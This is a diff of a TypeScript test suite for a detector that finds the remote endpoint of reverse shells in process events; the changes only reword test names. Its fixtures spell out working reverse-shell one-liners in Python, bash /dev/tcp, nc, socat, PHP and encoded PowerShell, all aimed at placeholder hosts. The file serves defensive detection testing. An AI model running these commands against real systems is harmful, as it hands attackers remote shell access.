@@ -27,12 +27,12 @@ describe('the far end that a script names', () => {
         'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.9",4444));[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn("sh")',
       ),
     ],
-    ['Python, in one text', { exe: 'python3', arguments: `python3 -c "s.connect(('203.0.113.9', 4444))"` }],
+    ['Python, as one text', { exe: 'python3', arguments: `python3 -c "s.connect(('203.0.113.9', 4444))"` }],
     [
       'Python, with variables',
       by('/bin/sh', 'sh', '-c', 'export RHOST="203.0.113.9";export RPORT=4444;python -c "x"'),
     ],
-    ['Python, by another function', by('python3', '-c', 'socket.create_connection(("203.0.113.9",4444))')],
+    ['Python, with another function', by('python3', '-c', 'socket.create_connection(("203.0.113.9",4444))')],
     [
       'Perl',
       by(
@@ -146,7 +146,7 @@ describe('the far end that a script names', () => {
       by(powershell, '-nop', '-enc', Buffer.from(client, 'utf16le').toString('base64')),
     ],
     [
-      'PowerShell in base64, in one text',
+      'PowerShell in base64, as one text',
       {
         exe: powershell,
         arguments: `powershell -EncodedCommand ${Buffer.from(client, 'utf16le').toString('base64')}`,
@@ -163,10 +163,10 @@ describe('the far end that a script names', () => {
       'a name that is a variable',
       by('python3', '-c', 's.connect((os.getenv("RHOST"),int(os.getenv("RPORT"))))'),
     ],
-    ['a port that is none', by('php', '-r', 'fsockopen("203.0.113.9",444444)')],
+    ['an invalid port', by('php', '-r', 'fsockopen("203.0.113.9",444444)')],
     ['base64 of anything', by(powershell, '-enc', 'QUJDREVGR0hJSktMTU5PUA==')],
-    ['a variable that nobody sets', by('bash', '-c', 'bash -i >& /dev/tcp/$H/4444 0>&1')],
-    ['variables that are no host and port', by('python3', '-c', `h=5;p=6;s.connect((h,p))`)],
+    ['a variable that is never set', by('bash', '-c', 'bash -i >& /dev/tcp/$H/4444 0>&1')],
+    ['variables that are not a host and port', by('python3', '-c', `h=5;p=6;s.connect((h,p))`)],
     ['a listener with an address', by('ncat', '-e', 'sh', '-l', '203.0.113.9', '4444')],
     ['a look at a port', by('nc', '-vz', '203.0.113.9', '4444')],
     ['a mail', by('sh', '-c', 'mail -s "connect 203.0.113.9 at 4444"')],
@@ -174,12 +174,12 @@ describe('the far end that a script names', () => {
     expect(toOf(event)).toBeUndefined();
   });
 
-  it('may be a name, and IPv6', () => {
+  it('may be a name, or IPv6', () => {
     expect(toOf(by('socat', 'TCP6:[2001:db8::9]:4444', 'EXEC:sh'))).toBe('2001:db8::9:4444');
     expect(toOf(by('php', '-r', 'fsockopen("C2.example",443)'))).toBe('c2.example:443');
   });
 
-  it('has the transport where the script names it', () => {
+  it('has the transport that the script names', () => {
     const transportOf = (script: string) =>
       read(payloadOf('Reverse-Shell', { process_events: [by('bash', '-c', script)] })).endpoint?.transport;
     expect(transportOf('bash -i >& /dev/udp/c2.example/53')).toBe('udp');
@@ -190,7 +190,7 @@ describe('the far end that a script names', () => {
     expect(transportOf('nc c2.example 53 -e /usr/bin/zsh -u')).toBeUndefined();
   });
 
-  it('is read for kinds that hold reverse shells among others, and for no other', () => {
+  it('is read only for kinds that may hold reverse shells', () => {
     const event = by('nc', '203.0.113.9', '4444');
     expect(toOf(event, 'Suspicious-Process-Events')).toBe('203.0.113.9:4444');
     expect(toOf(event, 'Privileged-Container')).toBeUndefined();
@@ -226,7 +226,7 @@ const SHELLS = [
   `bash -c "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"`,
   `nohup setsid bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' &`,
 ];
-/** Connections without a shell, and words that nothing runs. */
+/** Connections without a shell, and words that are not run. */
 const DECOYS = [
   'nc -z db 5432',
   'nc -vz -w 3 db.example 5432 && true',
@@ -293,7 +293,7 @@ describe('the far end that a shell is attached to', () => {
     );
   });
 
-  it('is found behind more text than fields hold', () => {
+  it('is found after more text than fields hold', () => {
     const secret = `PASSWORD='${'x'.repeat(20)}'`;
     for (const before of [': ' + 'x'.repeat(20_000), `: ${'x'.repeat(20_000)}; ${secret}`])
       expect(alone(`${before}; ${SHELLS[0]}`)).toEqual(expected);
@@ -312,14 +312,14 @@ describe('the far end that a shell is attached to', () => {
     );
   });
 
-  it('is the first of several, and one on this machine only where there is no other', () => {
+  it('is the first of several, and one on this machine only if there is no other', () => {
     const to = (host: string) => `nc -e sh ${host} 4444`;
     expect(alone(`${to('203.0.113.9')}; ${to('203.0.113.10')}`)).toEqual(expected);
     expect(alone(`${to('localhost')}; ${to('203.0.113.9')}`)).toEqual(expected);
     expect(alone(to('localhost'))[0]).toBe('localhost');
   });
 
-  it('is what makes a process of an unknown kind a reverse shell', () => {
+  it('makes a process of an unknown kind a reverse shell', () => {
     expect(alone('nc db.example 5432', 'Suspicious-Process-Call')).toEqual(['db.example', 5_432, undefined]);
     expect(alone('socat TCP-LISTEN:80,fork TCP:db.example:80', 'Suspicious-Process-Events')).toEqual([
       'db.example',
